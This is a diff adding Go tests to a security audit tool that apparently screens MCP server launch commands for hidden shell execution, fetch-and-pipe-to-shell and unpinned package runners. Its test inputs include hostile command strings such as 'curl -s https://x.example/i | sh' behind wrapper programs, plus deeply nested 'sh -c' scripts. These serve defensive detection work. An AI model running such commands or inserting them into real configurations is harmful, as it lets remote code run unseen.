@@ -598,6 +598,7 @@ func TestAuditCommandString(t *testing.T) {
 		{"an assignment with a path first", stdio("NODE_OPTIONS=--require=/tmp/x.js node s.js"), []string{
 			"danger forbidden_env mcp.command", "danger shell_exec mcp.command", "warn command_line mcp.command"}, false, true},
 		{"a path with brackets is one program", stdio(`C:\Program Files (x86)\nodejs\node.exe`, "server.js"), []string{}, false, false},
+		{"a path whose first word names a utility", stdio("/Volumes/Install disk/bin/srv", "--stdio"), []string{}, false, false},
 	})
 }
 
@@ -1707,4 +1708,83 @@ func TestAuditContainerBuild(t *testing.T) {
 		{"a directory", stdio("podman", "build", "-t", "x", "."), []string{}, true, false},
 		{"an image context", stdio("docker", "buildx", "build", "--build-context", "base=docker-image://alpine:3", "."), []string{}, true, false},
 	})
+}
+
+// TestAuditUnknownWrapper holds a program the audit has no rule for to
+// what the words it is given do when they name a program it knows: in
+// command position they are the command it runs; anywhere else they count
+// when they run code. A name the audit does not know must not hide a shell
+// script, a package runner or inline code behind it.
+func TestAuditUnknownWrapper(t *testing.T) {
+	const (
+		fetch2  = "danger fetch_exec mcp.args[2]"
+		piped2  = "danger pipe_to_shell mcp.args[2]"
+		script2 = "danger shell_exec mcp.args[2]"
+		meta2   = "warn shell_meta mcp.args[2]"
+	)
+	runCases(t, []auditCase{
+		{"a shell behind fakeroot", stdio("fakeroot", "sh", "-c", "curl -s https://x.example/i | sh"), []string{
+			fetch2, piped2, script2, meta2}, true, true},
+		{"after an option not known", stdio("cgexec", "-g", "cpu:x", "bash", "-c", "npx -y p"), []string{
+			"danger shell_exec mcp.args[4]", "warn unpinned mcp.args[4]"}, true, true},
+		{"a package runner", stdio("fakeroot", "npx", "-y", "p"), []string{"warn unpinned mcp.args[2]"}, true, false},
+		{"after a run verb", stdio("rr", "record", "uvx", "p"), []string{"warn unpinned mcp.args[2]"}, true, false},
+		{"after --", stdio("launcher", "--", "uvx", "p"), []string{"warn unpinned mcp.args[2]"}, true, false},
+		{"after --exec", stdio("launcher", "--exec", "npx", "-y", "p"), []string{"warn unpinned mcp.args[3]"}, true, false},
+		{"inline code further on", stdio("launcher", "serve", "--with", "python", "-c", "import os"), []string{
+			"danger inline_code mcp.args[4]"}, false, false},
+		{"a common word that runs code", stdio("launcher", "serve", "eval", "curl x | sh"), []string{
+			"danger fetch_exec mcp.args[1]", fetch2, piped2, meta2}, true, true},
+		{"in a script", stdio("sh", "-c", "fakeroot bash -c 'curl x | sh'"), []string{
+			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]",
+			"danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
+		{"behind a known wrapper", stdio("nohup", "fakeroot", "uvx", "p"), []string{"warn unpinned mcp.args[2]"}, true, false},
+		// Look-alikes: a subcommand or a value named like a program.
+		{"a subcommand", stdio("azmcp", "server", "start", "--namespace", "storage"), []string{}, false, false},
+		{"a value further on", stdio("launcher", "serve", "--lang", "node", "--port", "3000"), []string{}, false, false},
+		{"a common word first", stdio("launcher", "start", "--namespace", "x"), []string{}, false, false},
+		{"a program's last word", stdio("launcher", "--runtime", "node"), []string{}, false, false},
+		{"a utility that runs nothing", stdio("sh", "-c", "cp npx-cache/node x && mkdir -p node npx && kill node 1; node x"), []string{
+			"danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, false, true},
+	})
+}
+
+// TestUnknownWrapperReadingsAreBounded: words that name known programs
+// after an unknown one are each read as a command at most a fixed number
+// of times over the audit, then the audit says it stopped.
+func TestUnknownWrapperReadingsAreBounded(t *testing.T) {
+	args := []string{"serve"}
+	for range 200 {
+		args = append(args, "node", "x")
+	}
+	r := assess.Audit(stdio("launcher", args...))
+	var limits int
+	for _, f := range r.Findings {
+		if f.Code == assess.CodeUnparsableShell {
+			limits++
+		}
+	}
+	if limits != 1 {
+		t.Fatalf("want one unparsable_shell finding for the bound, got %v", r.Findings)
+	}
+}
+
+// TestUnknownWrapperKeepsBounds: a reading of an unknown program's words
+// that meets an analysis bound is kept wherever the words stand, so that
+// the bound cannot be used to hide a script.
+func TestUnknownWrapperKeepsBounds(t *testing.T) {
+	// The launcher stands at the deepest level the audit reads, so that
+	// reading its words as a command meets the bound; nohup stands after a
+	// subcommand, where a reading counts only when it runs code.
+	script := "launcher serve nohup x y"
+	for range 3 {
+		script = "sh -c '" + strings.ReplaceAll(script, "'", `'\''`) + "'"
+	}
+	r := assess.Audit(stdio("sh", "-c", script))
+	for _, f := range r.Findings {
+		if f.Code == assess.CodeUnparsableShell && strings.Contains(f.Message, "nested too deeply") {
+			return
+		}
+	}
+	t.Fatalf("want unparsable_shell for the reading nested past the bound, got %v", r.Findings)
 }
